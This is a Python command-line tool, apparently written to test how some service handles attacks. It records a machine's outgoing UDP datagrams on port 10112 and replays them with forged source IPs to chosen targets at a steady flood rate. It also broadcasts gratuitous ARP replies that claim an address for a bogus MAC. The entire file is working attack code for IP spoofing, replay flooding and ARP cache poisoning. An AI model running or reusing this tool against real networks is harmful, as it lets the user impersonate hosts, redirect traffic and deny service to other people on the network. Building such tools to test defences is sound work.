"""Records genuine advertisements and sends whatever it likes from any address; standard library only.

    attacker.py record FILE                      what this machine itself sends to the port, until it is ended
    attacker.py send FILE SECONDS RATE SOURCE>TARGET...
                                                 datagrams of FILE in turn, to each target as if the source had sent them
    attacker.py claim ADDRESS SECONDS RATE       gratuitous ARP: this address is at a strange MAC

A file holds records: nanoseconds of the wall clock, length, datagram. `record` prints a line once it listens, `send` a line
with the packets to each target and the seconds it took. SECONDS 0: each of FILE once. Packets are spread evenly: that is harder to bear than bursts.
"""

import ctypes
import os
import socket
import struct
import sys
import time
from collections.abc import Iterable, Iterator
from pathlib import Path

PORT = 10112
STRANGE_MAC = bytes.fromhex("020000000bad")
RECORD = struct.Struct("!QH")
UDP = struct.Struct("!HHHH")
ALL_PROTOCOLS = 3  # ETH_P_ALL: the only one that sees what leaves
ATTACH_FILTER, TIMESTAMP = 26, 35


def read(path: Path) -> list[tuple[int, bytes]]:
    """Return the records of a file, without one that is just being written."""
    data, at, found = path.read_bytes(), 0, []
    while at + RECORD.size <= len(data):
        sent_at, size = RECORD.unpack_from(data, at)
        at += RECORD.size + size
        if at <= len(data):
            found.append((sent_at, data[at - size : at]))
    return found


def write(path: Path, datagrams: Iterable[bytes]) -> None:
    path.write_bytes(b"".join(RECORD.pack(0, len(one)) + one for one in datagrams))


def outgoing() -> bytes:
    """Return a filter program (linux/filter.h): what this machine sends by UDP to the port, and nothing else."""
    program = (
        (0x28, 0, 0, 0xFFFFF000),  # load half: protocol
        (0x15, 0, 8, 0x0800),
        (0x30, 0, 0, 0xFFFFF004),  # load byte: packet type
        (0x15, 0, 6, 4),  # PACKET_OUTGOING
        (0x30, 0, 0, 9),
        (0x15, 0, 4, socket.IPPROTO_UDP),
        (0xB1, 0, 0, 0),  # index = length of the IP header
        (0x48, 0, 0, 2),
        (0x15, 0, 1, PORT),
        (0x06, 0, 0, 0xFFFF),
        (0x06, 0, 0, 0),
    )
    return b"".join(struct.pack("=HBBI", *one) for one in program)


def record(path: Path) -> None:
    link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    code = outgoing()
    held = ctypes.create_string_buffer(code, len(code))
    link.setsockopt(socket.SOL_SOCKET, ATTACH_FILTER, struct.pack("@HP", len(code) // 8, ctypes.addressof(held)))
    link.setsockopt(socket.SOL_SOCKET, TIMESTAMP, 1)
    link.bind(("eth0", ALL_PROTOCOLS))
    print("recording", flush=True)
    with path.open("wb", buffering=0) as file:
        while True:
            packet, extra, _, _ = link.recvmsg(2048, 64)
            ((_, _, stamp),) = extra
            seconds, nanos = struct.unpack("@qq", stamp)
            datagram = packet[(packet[0] & 15) * 4 + UDP.size :]
            file.write(RECORD.pack(seconds * 10**9 + nanos, len(datagram)) + datagram)


def packet(datagram: bytes, source: str, target: str) -> bytes:
    """Return an IPv4 packet; the kernel fills in length and checksum, and UDP may go without one."""
    udp = UDP.pack(PORT, PORT, UDP.size + len(datagram), 0) + datagram
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    return struct.pack("!BBHHHBBH", 0x45, 0xC0, 0, 0, 0, 255, socket.IPPROTO_UDP, 0) + addresses + udp


def send(path: Path, seconds: float, rate: float, ways: list[str]) -> None:
    ends = [way.split(">") for way in ways]
    rounds = [[(packet(one, source, target), (target, 0)) for source, target in ends] for _, one in read(path)]
    link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    link.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    for sent in paced(seconds, len(rounds), rate):
        for data, target in rounds[sent % len(rounds)]:
            link.sendto(data, target)


def claim(address: str, seconds: float, rate: float) -> None:
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind(("eth0", 0))
    head = b"\xff" * 6 + STRANGE_MAC + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 2)
    frame = head + (STRANGE_MAC + socket.inet_aton(address)) * 2
    for _ in paced(seconds, 1, rate):
        link.send(frame)


def paced(seconds: float, once: int, rate: float) -> Iterator[int]:
    """Yield numbers when the next one is due, for so long or so many; then say how it went."""
    os.nice(-10)  # to be a flood on a busy host too
    began = time.monotonic()
    sent, passed = 0, 0.0
    while passed < seconds if seconds else sent < once:
        if sent <= passed * rate:
            yield sent
            sent += 1
        passed = time.monotonic() - began
    print(sent, passed, flush=True)


def main() -> None:
    what, file, *rest = sys.argv[1:]
    if what == "record":
        record(Path(file))
    elif what == "claim":
        claim(file, float(rest[0]), float(rest[1]))
    else:
        seconds, rate, *ways = rest
        send(Path(file), float(seconds), float(rate), ways)


if __name__ == "__main__":
    main()
